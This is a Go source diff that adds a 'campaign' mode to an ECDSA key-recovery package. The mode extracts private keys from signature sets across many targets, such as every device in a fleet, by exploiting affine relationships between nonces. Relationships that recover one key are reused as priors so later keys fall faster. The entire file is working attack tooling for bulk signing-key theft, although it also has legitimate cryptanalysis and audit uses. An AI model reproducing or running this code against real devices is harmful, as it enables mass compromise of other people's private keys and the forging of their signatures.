@@ -0,0 +1,114 @@
+package ecdsaaffine
+
+import (
+	"context"
+	"fmt"
+	"sort"
+)
+
+// CampaignTarget is one key to recover in a campaign, e.g. one device of a fleet.
+type CampaignTarget struct {
+	Name       string       // label for the results, e.g. a device ID
+	Signatures []*Signature // the key's signatures; if nil, they are read from Source
+	Source     string       // path or URL of a signature file, read with the client's parser
+	PublicKey  string       // key to verify against, as for RecoverKeyFromSignatures ("" uses the signer key)
+}
+
+// CampaignResult is the outcome of a campaign for one target.
+type CampaignResult struct {
+	Target string          // the target's Name
+	Result *RecoveryResult // nil if no key was recovered
+	Err    error           // why no key was recovered, or a failure to read the target
+	Prior  bool            // the key was found by a relationship learned from an earlier target
+}
+
+// CampaignPrior is a relationship that recovered a key earlier in a campaign.
+type CampaignPrior struct {
+	Relationship AffineRelationship
+	Pattern      string // the pattern name of the first result it came from, e.g. "step_13511"
+	Keys         int    // number of targets it recovered
+}
+
+// RecoverCampaign recovers the keys of many targets in order, sharing what it learns
+// between them. Devices running the same flawed firmware tend to share one nonce
+// relationship, so every relationship that recovers a key becomes a prior: it is tried
+// on each later target's pairs before the strategy runs (see WithPairs), the ones that
+// recovered most keys first. Only verified keys count, so targets without any public key
+// go straight to the strategy.
+//
+// The results are in target order. The priors learned so far are returned with them,
+// also when ctx is cancelled part way (the targets not reached have no result).
+func (c *Client) RecoverCampaign(ctx context.Context, targets []CampaignTarget) ([]*CampaignResult, []CampaignPrior, error) {
+	var results []*CampaignResult
+	var priors []CampaignPrior
+	for _, target := range targets {
+		if err := ctx.Err(); err != nil {
+			return results, priors, err
+		}
+		result := c.recoverTarget(ctx, target, priors)
+		results = append(results, result)
+		if result.Result != nil && result.Result.Verified && result.Result.Relationship.A != nil {
+			priors = learnPrior(priors, result.Result)
+		}
+	}
+	return results, priors, nil
+}
+
+// recoverTarget tries the priors on target, then the strategy.
+func (c *Client) recoverTarget(ctx context.Context, target CampaignTarget, priors []CampaignPrior) *CampaignResult {
+	result := &CampaignResult{Target: target.Name}
+	signatures := target.Signatures
+	if signatures == nil {
+		var err error
+		if signatures, err = c.parser.ParseSignatures(target.Source); err != nil {
+			result.Err = fmt.Errorf("failed to parse signatures: %w", err)
+			return result
+		}
+	}
+	if len(signatures) < 2 {
+		result.Err = fmt.Errorf("need at least 2 signatures, got %d", len(signatures))
+		return result
+	}
+	if err := c.checkPairs(len(signatures)); err != nil {
+		result.Err = err
+		return result
+	}
+
+	var publicKey []byte
+	if target.PublicKey != "" {
+		var err error
+		if publicKey, err = ParseTarget(target.PublicKey, 0, 0); err != nil {
+			result.Err = err
+			return result
+		}
+	}
+	for _, prior := range priors {
+		if found := c.searchRelationship(signatures, publicKey, prior.Relationship.A, prior.Relationship.B); found != nil && found.Verified {
+			found.Pattern = prior.Pattern
+			result.Result, result.Prior = found, true
+			return result
+		}
+	}
+
+	result.Result, result.Err = c.RecoverKeyFromSignatures(ctx, signatures, target.PublicKey)
+	return result
+}
+
+// learnPrior counts result's relationship among priors, keeping the priors ordered by
+// the number of keys they recovered (among equals, the one that got there first).
+func learnPrior(priors []CampaignPrior, result *RecoveryResult) []CampaignPrior {
+	a, b := centered(result.Relationship.A), centered(result.Relationship.B)
+	found := false
+	for i := range priors {
+		if priors[i].Relationship.A.Cmp(a) == 0 && priors[i].Relationship.B.Cmp(b) == 0 {
+			priors[i].Keys++
+			found = true
+			break
+		}
+	}
+	if !found {
+		priors = append(priors, CampaignPrior{Relationship: AffineRelationship{A: a, B: b}, Pattern: result.Pattern, Keys: 1})
+	}
+	sort.SliceStable(priors, func(i, j int) bool { return priors[i].Keys > priors[j].Keys })
+	return priors
+}